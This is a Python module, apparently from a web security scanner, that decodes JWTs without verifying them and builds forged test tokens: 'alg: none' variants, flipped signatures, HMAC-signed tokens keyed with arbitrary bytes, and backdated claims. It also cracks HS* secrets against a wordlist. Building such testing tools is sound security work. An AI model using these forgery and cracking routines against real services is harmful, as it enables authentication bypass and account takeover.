"""JWT helpers: decode without trusting, forge test variants, crack HS* secrets.

Tokens and cracked secrets live in memory only; facts get fingerprints and masked forms.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import jwt

from scanner.net.redact import JWT_PATTERN

NONE_CASINGS = ("none", "None", "NONE", "nOnE")
_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _b64json(obj: dict[str, Any]) -> str:
    return b64url(json.dumps(obj, separators=(",", ":")).encode())


@dataclass(frozen=True)
class Token:
    """A decoded (not verified) JWT."""

    raw: str
    header: dict[str, Any]
    claims: dict[str, Any]

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))

    @property
    def fingerprint(self) -> str:
        """Stable, non-reversible identity of the token for facts."""
        return hashlib.sha256(self.raw.encode()).hexdigest()[:12]

    @property
    def signing_input(self) -> bytes:
        head, payload, _ = self.raw.split(".")
        return f"{head}.{payload}".encode()

    @property
    def signature(self) -> bytes:
        sig = self.raw.split(".")[2]
        return base64.urlsafe_b64decode(sig + "=" * (-len(sig) % 4))


def decode(raw: str) -> Token | None:
    """Decode a compact JWS without verifying it; ``None`` when it is not a JWT."""
    raw = raw.strip()
    if raw.count(".") != 2:
        return None
    try:
        header = jwt.get_unverified_header(raw)
        claims = jwt.decode(raw, options={"verify_signature": False, "verify_exp": False, "verify_aud": False})
    except (jwt.PyJWTError, ValueError, TypeError):
        return None
    if not isinstance(claims, dict):
        return None
    return Token(raw, dict(header), dict(claims))


MAX_TOKENS_PER_TEXT = 20  # distinct tokens taken from one body or header value (each is cracked)


def find_tokens(text: str) -> list[str]:
    """Distinct JWT-looking strings in a body or header value, at most ``MAX_TOKENS_PER_TEXT``."""
    found: dict[str, None] = {}
    for match in JWT_PATTERN.finditer(text):
        found[match.group(0)] = None
        if len(found) >= MAX_TOKENS_PER_TEXT:
            break
    return list(found)


def collect(values: Iterable[str], source: str, seen: dict[str, tuple[str, str]]) -> None:
    """Add each new JWT in ``values`` to ``seen`` (fingerprint -> (raw, source)), first source wins."""
    for value in values:
        for raw in find_tokens(value):
            token = decode(raw)
            if token is not None and token.fingerprint not in seen:
                seen[token.fingerprint] = (raw, source)


def tampered(token: Token) -> str:
    """The same token with every signature byte flipped (jwt_tool's 'broken signature')."""
    head, payload, _ = token.raw.split(".")
    sig = token.signature or b"\x00" * 32
    return f"{head}.{payload}.{b64url(bytes(b ^ 0xFF for b in sig))}"


def unsigned(token: Token, alg: str) -> str:
    """``alg`` set to a spelling of none, empty signature (``header.payload.``)."""
    header = {**token.header, "alg": alg}
    return f"{_b64json(header)}.{_b64json(token.claims)}."


def hmac_signed(header: dict[str, Any], claims: dict[str, Any], key: bytes, alg: str = "HS256") -> str:
    """Sign with HMAC by hand, so that any bytes (even a PEM public key) can be the key."""
    header = {**header, "alg": alg}
    signing_input = f"{_b64json(header)}.{_b64json(claims)}"
    digest = hmac.new(key, signing_input.encode(), _HMAC.get(alg, hashlib.sha256)).digest()
    return f"{signing_input}.{b64url(digest)}"


def expired_claims(claims: dict[str, Any], now: float | None = None) -> dict[str, Any]:
    """Claims whose ``exp`` lies one hour in the past (and ``iat`` before that)."""
    now = now or time.time()
    return {**claims, "iat": int(now) - 7200, "exp": int(now) - 3600}


def load_wordlist(path: Path) -> list[str]:
    """Candidate secrets, one a line; blank lines and ``#`` comments are skipped."""
    words = []
    for line in path.read_text(encoding="utf-8").splitlines():
        if line and not line.startswith("#"):
            words.append(line)
    return list(dict.fromkeys(words))


def crack(token: Token, words: list[str]) -> str | None:
    """The HS* secret (blank, or from ``words``) that reproduces the signature, or ``None``."""
    digestmod = _HMAC.get(token.alg)
    if digestmod is None:
        return None
    signing_input, signature = token.signing_input, token.signature
    for word in ["", *words]:  # "" = blank HMAC secret (jwt_tool's -X b)
        if hmac.compare_digest(hmac.new(word.encode(), signing_input, digestmod).digest(), signature):
            return word
    return None
